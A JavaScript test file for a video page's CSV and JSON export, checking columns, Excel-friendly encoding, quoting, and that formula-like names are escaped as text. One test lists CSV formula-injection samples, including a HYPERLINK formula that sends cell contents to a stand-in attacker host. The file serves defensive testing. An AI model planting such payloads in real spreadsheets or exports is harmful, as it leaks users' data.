// What the page exports: the rows, and that a spreadsheet takes no name for a formula.

import assert from "node:assert/strict";
import { test } from "node:test";

import fc from "fast-check";

import { csvOf, jsonOf, rowsOf } from "../../www/page/export.js";
import { forAll } from "../hostile/run.js";

const HEADER = [
  ...["identifier", "name", "created", "duration_seconds", "size_bytes", "private", "video"],
  ...["mp4", "mp4_link", "m4a", "m4a_link"],
];
const link = ({ uid }, type) => `https://example.com/${uid}/${type}.mp4?filename=a%20b`;
const ready = { uid: "a", name: "Film", readyToStream: true };

function exported(videos, states = {}, linkOf = link) {
  return rowsOf(videos, (uid, type) => states[type] ?? "unknown", linkOf);
}

/**
 * The cells as a spreadsheet reads them: quotes count at the start of a cell alone, and what follows the closing one
 * belongs to the cell, too.
 */
function read(csv, separator = ",") {
  const cell = new RegExp(`(?:"((?:[^"]|"")*)(?:"|$))?([^${separator}\\r\\n]*)(${separator}|\\r\\n?|\\n|$)`, "y");
  const text = csv.replace(/^\ufeff/, "");
  const rows = [[]];
  for (;;) {
    const [, quoted = "", rest, end] = cell.exec(text);
    rows.at(-1).push(quoted.replaceAll('""', '"') + rest);
    if (end === "") return rows;
    if (end !== separator) rows.push([]);
  }
}

/** The cell of a video's name in the CSV. */
const nameIn = (name) => read(csvOf(exported([{ ...ready, name }])))[1][1];

test("A row has all that is known of a video and its downloads", () => {
  const video = {
    ...ready,
    created: "2026-07-01T12:00:00.123456Z",
    duration: 61.5,
    size: 4_190_963,
    requireSignedURLs: true,
  };
  assert.deepEqual(exported([video], { default: "ready", audio: "inprogress" }), [
    {
      identifier: "a",
      name: "Film",
      created: "2026-07-01T12:00:00.123456Z",
      duration_seconds: 61.5,
      size_bytes: 4_190_963,
      private: true,
      video: "ready",
      mp4: "ready",
      mp4_link: "https://example.com/a/default.mp4?filename=a%20b",
      m4a: "inprogress",
      m4a_link: "",
    },
  ]);
});

test("What is not known is empty", () => {
  const [row] = exported([{ uid: "a", duration: -1 }]);
  const [identifier, isPrivate, video] = ["a", false, "ready"];
  const empty = Object.fromEntries(HEADER.map((column) => [column, ""]));
  assert.deepEqual(row, { ...empty, identifier, private: isPrivate, video });
  assert.equal(exported([ready], { default: "ready" }, () => undefined)[0].mp4_link, "");
});

test("A video that is not ready has no downloads, and nobody asks for their links", () => {
  const videos = [
    { uid: "a", readyToStream: false, status: { state: "error" } },
    { uid: "b", readyToStream: false },
  ];
  const rows = exported(videos, { default: "ready" }, () => assert.fail());
  assert.deepEqual(
    rows.map(({ video, mp4, mp4_link, m4a }) => [video, mp4, mp4_link, m4a]),
    [
      ["failed", "none", "", "none"],
      ["processing", "none", "", "none"],
    ],
  );
});

test("CSV is UTF-8 that Excel knows, with a header and lines that end as it wants", () => {
  const csv = csvOf(exported([{ ...ready, name: "Überblick 東京" }], { default: "none", audio: "error" }));
  assert.equal(csv, `\ufeff${HEADER.join(",")}\r\na,Überblick 東京,,,,false,ready,none,,error,`);
});

test("CSV without a video is the header", () => {
  assert.equal(csvOf([]), `\ufeff${HEADER.join(",")}`);
});

test("Quotes, commas, ends of lines and tabs stay within the name", () => {
  for (const name of ['The "best" of', "a, b", "two\nlines", "two\r\nlines", " a\tb ", '"', '",",', "a;b"]) {
    assert.equal(nameIn(name), name);
  }
});

test("A name that would be a formula is a text", () => {
  for (const [name, cell] of [
    ['=HYPERLINK("https://evil.example/?"&A1,"Open")', `'=HYPERLINK("https://evil.example/?"&A1,"Open")`],
    ["=1+1\nand a line", "'=1+1\nand a line"],
    ["=1+1\u2028and a line", "'=1+1\u2028and a line"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["  =1", "'  =1"],
    ["\u00a0=1", "'\u00a0=1"],
    ["\ufeff\u200b\0=1", "'\ufeff\u200b\0=1"],
    ["\t=1", "'\t'=1"],
    ["\r\n=1", "'\r'\n'=1"],
    ["\tindented", "'\tindented"],
    ["＝1", "'＝1"],
    ["＋1", "'＋1"],
    ["－1", "'－1"],
    ["＠SUM(A1)", "'＠SUM(A1)"],
    // These start a cell where others than commas separate them.
    ["a;=1", "a;'=1"],
    ['a;"=1', `a;'"=1`],
    ["a\t=1", "a\t'=1"],
    ["a\n=1", "a\n'=1"],
    ["a\n=1;=2", "a\n'=1;'=2"],
  ]) {
    assert.equal(nameIn(name), cell);
  }
});

test("A sign within a name stays as it is", () => {
  for (const name of ["a=b", "Intro - part 1", "me@example.com", "1+1, -2", "C++; the rest", "Ready? =)"]) {
    assert.equal(nameIn(name), name);
  }
});

test("Links and states are texts, too", () => {
  const row = exported([{ ...ready, created: "=1" }], { default: "ready", audio: "=2" }, () => "=3");
  const [, cells] = read(csvOf(row));
  assert.deepEqual(cells, ["a", "Film", "'=1", "", "", "false", "ready", "ready", "'=3", "'=2", ""]);
});

const piece = fc.constantFrom(
  ..."=+-@＝＋－＠,;\t\r\n\"' |a1".split(""),
  ...["\u00a0", "\u200b", "\ufeff", "\0", "\u2028", "\r\n", '""', ";=", "東"],
);
const names = fc.array(fc.oneof({ arbitrary: piece, weight: 5 }, fc.string({ unit: "binary" })), { maxLength: 8 });

test("Whatever the names are, and whatever separates cells, no cell starts a formula, and no name is lost", () =>
  forAll(fc.array(names.map((parts) => parts.join("")), { minLength: 1, maxLength: 3 }), 2000, (list) => {
    const csv = csvOf(exported(list.map((name) => ({ ...ready, name }))));
    for (const separator of [",", ";", "\t"]) {
      for (const cell of read(csv, separator).flat()) assert.doesNotMatch(cell, /^[\s\p{C}]*[=+\-@＝＋－＠]/u);
    }
    const rows = read(csv);
    assert.equal(rows.length, list.length + 1);
    const plain = (text) => text.replaceAll("'", "");
    assert.deepEqual(rows.slice(1).map(([, name]) => plain(name)), list.map(plain));
    for (const row of rows) assert.equal(row.length, HEADER.length);
  }));

test("JSON has the rows as they are, one property a line", () => {
  const rows = exported([{ ...ready, name: '=1 "and"\nmore' }]);
  const json = jsonOf(rows);
  assert.deepEqual(JSON.parse(json), rows);
  assert.match(json, /^\[\n {2}\{\n {4}"identifier": "a",\n/);
  assert.match(json, /\]\n$/);
});
